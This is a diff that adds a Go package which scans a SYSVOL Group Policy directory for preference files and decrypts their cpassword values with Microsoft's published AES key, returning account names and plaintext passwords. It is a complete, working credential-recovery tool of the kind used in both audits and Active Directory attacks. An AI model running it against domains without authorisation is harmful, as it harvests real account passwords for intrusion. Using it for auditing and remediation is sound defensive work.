@@ -0,0 +1,207 @@
+// Package gpp recovers the passwords that Group Policy Preferences store
+// in SYSVOL. Preference items (local users, services, scheduled tasks,
+// drive maps, data sources and printers) keep a cpassword attribute
+// encrypted with an AES key that Microsoft published (MS14-025), so any
+// user who can read SYSVOL can decrypt it.
+package gpp
+
+import (
+	"crypto/aes"
+	"crypto/cipher"
+	"encoding/base64"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"unicode/utf16"
+)
+
+// key is the AES-256 key of cpassword values, documented in [MS-GPPREF]
+// section 2.2.1.1.4
+var key = []byte{
+	0x4e, 0x99, 0x06, 0xe8, 0xfc, 0xb6, 0x6c, 0xc9, 0xfa, 0xf4, 0x93, 0x10, 0x62, 0x0f, 0xfe, 0xe8,
+	0xf4, 0x96, 0xe8, 0x06, 0xcc, 0x05, 0x79, 0x90, 0x20, 0x9b, 0x09, 0xa4, 0x33, 0xb6, 0x6c, 0x1b,
+}
+
+// Files are the preference files that may hold a cpassword
+var Files = []string{
+	"Groups.xml",
+	"Services.xml",
+	"ScheduledTasks.xml",
+	"DataSources.xml",
+	"Drives.xml",
+	"Printers.xml",
+}
+
+// userAttributes name the account of a preference item, depending on its
+// type (lowercase)
+var userAttributes = []string{"username", "accountname", "runas", "newname"}
+
+// Credential is a preference item with a cpassword
+type Credential struct {
+	File      string `json:"file"`              // Path of the preference file, relative to the GPO
+	Type      string `json:"type"`              // Item element, e.g. "User" or "NTService"
+	Name      string `json:"name"`              // Item name
+	UserName  string `json:"userName"`          // Account the password belongs to
+	Password  string `json:"password"`          // Decrypted password, empty if decryption failed
+	CPassword string `json:"cpassword"`         // The value as stored
+	Changed   string `json:"changed,omitempty"` // Last change of the item, as stored
+}
+
+// Decrypt decrypts a cpassword value
+func Decrypt(cpassword string) (string, error) {
+	// Values are stored without base64 padding
+	if n := len(cpassword) % 4; n != 0 {
+		cpassword += strings.Repeat("=", 4-n)
+	}
+	data, err := base64.StdEncoding.DecodeString(cpassword)
+	if err != nil {
+		return "", fmt.Errorf("decoding cpassword: %w", err)
+	}
+	if len(data) == 0 || len(data)%aes.BlockSize != 0 {
+		return "", fmt.Errorf("cpassword is not a whole number of AES blocks")
+	}
+
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return "", err
+	}
+	plain := make([]byte, len(data))
+	cipher.NewCBCDecrypter(block, make([]byte, aes.BlockSize)).CryptBlocks(plain, data)
+
+	pad := int(plain[len(plain)-1])
+	if pad == 0 || pad > aes.BlockSize {
+		return "", fmt.Errorf("invalid cpassword padding")
+	}
+	plain = plain[:len(plain)-pad]
+	if len(plain)%2 != 0 {
+		return "", fmt.Errorf("cpassword is not UTF-16")
+	}
+
+	u := make([]uint16, len(plain)/2)
+	for i := range u {
+		u[i] = uint16(plain[2*i]) | uint16(plain[2*i+1])<<8
+	}
+	return string(utf16.Decode(u)), nil
+}
+
+// Parse returns the items of a preference file that have a non-empty
+// cpassword. The item is the parent element of the Properties element
+// carrying the cpassword.
+func Parse(r io.Reader) ([]Credential, error) {
+	var (
+		result []Credential
+		stack  []xml.StartElement
+	)
+	dec := xml.NewDecoder(r)
+	// Preference files are UTF-8; read any other declared encoding as is
+	// rather than failing
+	dec.CharsetReader = func(_ string, input io.Reader) (io.Reader, error) { return input, nil }
+	for {
+		tok, err := dec.Token()
+		if err == io.EOF {
+			return result, nil
+		}
+		if err != nil {
+			return result, fmt.Errorf("parsing preference file: %w", err)
+		}
+
+		switch t := tok.(type) {
+		case xml.StartElement:
+			stack = append(stack, t.Copy())
+			cpassword := attr(t, "cpassword")
+			if cpassword == "" {
+				continue
+			}
+			c := Credential{Type: t.Name.Local, CPassword: cpassword}
+			if len(stack) > 1 {
+				item := stack[len(stack)-2]
+				c.Type, c.Name, c.Changed = item.Name.Local, attr(item, "name"), attr(item, "changed")
+			}
+			for _, name := range userAttributes {
+				if c.UserName = attr(t, name); c.UserName != "" {
+					break
+				}
+			}
+			c.Password, _ = Decrypt(cpassword)
+			result = append(result, c)
+		case xml.EndElement:
+			if len(stack) > 0 {
+				stack = stack[:len(stack)-1]
+			}
+		}
+	}
+}
+
+// Scan walks a GPO directory, such as a gPCFileSysPath, and parses the
+// preference files under it. Unreadable or malformed files are returned
+// in the error after the others have been scanned.
+func Scan(dir string) ([]Credential, error) {
+	var (
+		result []Credential
+		errs   []string
+	)
+	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil {
+			if path == dir {
+				return err
+			}
+			errs = append(errs, err.Error())
+			return nil
+		}
+		if d.IsDir() || !isPreferenceFile(d.Name()) {
+			return nil
+		}
+
+		rel, _ := filepath.Rel(dir, path)
+		creds, err := parseFile(path)
+		if err != nil {
+			errs = append(errs, fmt.Sprintf("%s: %v", rel, err))
+		}
+		for _, c := range creds {
+			c.File = rel
+			result = append(result, c)
+		}
+		return nil
+	})
+	if err != nil {
+		return result, err
+	}
+	if len(errs) > 0 {
+		return result, fmt.Errorf("%s", strings.Join(errs, "; "))
+	}
+	return result, nil
+}
+
+// parseFile parses a preference file
+func parseFile(path string) ([]Credential, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	return Parse(f)
+}
+
+// isPreferenceFile reports whether name is one of Files, ignoring case
+func isPreferenceFile(name string) bool {
+	for _, f := range Files {
+		if strings.EqualFold(f, name) {
+			return true
+		}
+	}
+	return false
+}
+
+// attr returns the value of an attribute of an element, ignoring case
+func attr(e xml.StartElement, name string) string {
+	for _, a := range e.Attr {
+		if strings.EqualFold(a.Name.Local, name) {
+			return a.Value
+		}
+	}
+	return ""
+}